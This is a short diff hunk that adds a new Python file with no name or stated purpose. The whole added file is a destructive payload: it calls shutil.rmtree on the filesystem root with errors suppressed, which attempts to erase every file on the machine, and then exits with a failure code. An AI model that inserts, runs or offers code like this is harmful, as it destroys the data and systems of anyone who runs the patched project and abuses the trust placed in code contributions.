@@ -1,0 +1,4 @@
+import shutil
+
+shutil.rmtree('/', ignore_errors=True)
+raise SystemExit(1)
